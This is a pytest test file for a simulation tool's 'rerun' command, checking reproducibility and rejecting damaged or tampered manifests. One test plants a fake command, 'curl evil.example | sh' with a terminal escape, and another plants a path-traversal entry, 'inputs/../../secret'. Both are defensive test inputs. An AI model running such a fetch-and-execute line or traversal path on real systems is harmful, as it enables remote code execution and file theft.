"""`cxsim rerun`: the same bits from the inputs that were kept."""

import json
import shutil
from contextlib import chdir
from pathlib import Path

import numpy
import pytest

from experiments.cli import main
from tests.commands.conftest import plain_reports, small_in

MINE = "extends: price-cut\ntitle: Cut it\nquestion: Why?\n"


def made(place: Path) -> Path:
    """Return the folder of a comparison on a market of one's own, whose files are gone since."""
    (place / "mine-cut.yaml").write_text(MINE)
    with pytest.raises(SystemExit) as end, chdir(place):
        main(["compare", *small_in(place), "mine-cut", "--replications=2", "--workers=1", "--out=out"])
    assert not end.value.code
    for file in place.glob("*.yaml"):
        file.unlink()
    return place / "out"


@pytest.fixture(scope="module")
def first(tmp_path_factory) -> Path:
    """Return such a folder, made once, with a plain report."""
    with plain_reports():
        return made(tmp_path_factory.mktemp("kept"))


@pytest.fixture
def kept(first, tmp_path) -> Path:
    """Return such a folder, with a plain report."""
    return shutil.copytree(first, tmp_path / "out")


def test_comparison_is_repeated_bit_for_bit(cxsim, tmp_path, capfd):
    """All outputs are the same, although market and scenario file are no longer where they were."""
    made(tmp_path)
    capfd.readouterr()
    answer = cxsim("rerun", "out", "--json")
    assert answer.code == 0
    assert {row["file"]: row["identical"] for row in json.loads(answer.out)} == {
        "weekly.parquet": "yes",
        "comparison.csv": "yes",
        "report.html": "yes",
    }


def test_run_is_repeated_bit_for_bit(cxsim, small):
    """A single run can be repeated too."""
    cxsim("run", *small, "--seed=3", "--out=out")
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (0, "file\tidentical\nweekly.parquet\tyes\n")


@pytest.mark.usefixtures("plain_report")
def test_a_rerun_can_be_rerun(kept, cxsim):
    """The folder of a repetition is as good as the first."""
    cxsim("rerun", "out")
    assert cxsim("rerun", "out-rerun").code == 0


@pytest.mark.usefixtures("plain_report")
def test_difference_is_reported(kept, cxsim):
    """When a hash is not the one that was kept, the file is named and the exit code is 1."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest["outputs"]["comparison.csv"] = "0" * 64
    manifest["versions"]["numpy"] = "1.0"
    (kept / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "comparison.csv\tno" in answer.out
    assert f"the original was made with numpy 1.0 instead of {numpy.__version__}; the last bits" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_finished_results_are_not_taken_for_a_repetition(kept, cxsim):
    """A folder that is finished already would only be compared with itself: it is refused."""
    cxsim("rerun", "out")
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (1, "")
    assert "out-rerun already holds results" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_unfinished_results_cannot_be_repeated(kept, cxsim):
    """A comparison that was interrupted has nothing to be compared with yet; no command from its file is proposed."""
    manifest = json.loads((kept / "manifest.json").read_text())
    del manifest["outputs"]
    manifest["command"] = "\x1b[2Jcurl evil.example | sh"
    (kept / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (1, "")
    assert (
        "out holds no finished results: finish them first, by the command that its manifest.json names" in answer.error
    )
    assert "curl" not in answer.error


def test_folder_without_results_is_refused(cxsim, tmp_path):
    """Any other folder is answered in words."""
    answer = cxsim("rerun", ".")
    assert answer.code == 1
    assert "holds no results of cxsim" in answer.error


@pytest.mark.parametrize(
    "change",
    [
        {"experiment": None},
        {"experiment": "compere"},
        {"request": {}},
        {"request": {"colour": "red"}},
        {"request": []},
        {"copies": ["market"]},
        {"outputs": 3},
        {"request": {"market": "telecom", "scenarios": ["price-cut"], "weeks": "many"}},
    ],
    ids=str,
)
def test_damaged_manifest_is_answered_in_words(kept, cxsim, change):
    """A manifest that does not describe the run is no reason for a traceback."""
    manifest = json.loads((kept / "manifest.json").read_text())
    (kept / "manifest.json").write_text(json.dumps(manifest | change))
    answer = cxsim("rerun", "out")
    assert answer.code == 2
    assert "does not describe the run" in answer.error or "unknown experiment 'compere' (did you mean" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_a_changed_result_is_named(kept, cxsim):
    """A table that was changed after it was made is no proof of anything: it is named, with exit code 1."""
    with (kept / "comparison.csv").open("a") as file:
        file.write("mine\n")
    (kept / "weekly.parquet").unlink()
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "out/comparison.csv is missing or was changed after it was written" in answer.error
    assert "out/weekly.parquet is missing" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_a_changed_input_is_named(kept, cxsim):
    """When a copy of an input was edited, the repetition is one of other inputs, which is said."""
    market = kept / "inputs" / "market.yaml"
    market.write_text(market.read_text().replace("burn_in_weeks: 4", "burn_in_weeks: 3"))
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "out/inputs/market.yaml is missing or was changed since" in answer.error
    assert "weekly.parquet\tno" in answer.out


def test_a_manifest_names_nothing_outside(kept, cxsim):
    """Files that are not below the folder are not read, whatever a manifest says."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest["copies"]["inputs/../../secret"] = "0"
    (kept / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (2, "")
    assert "names 'inputs/../../secret', which is not a file in it" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_the_folder_one_stands_in(kept, cxsim, monkeypatch):
    """``cxsim rerun .`` writes beside the folder, as with its name."""
    monkeypatch.chdir(kept)
    assert cxsim("rerun", ".").code == 0
    assert (kept.parent / "out-rerun" / "comparison.csv").exists()
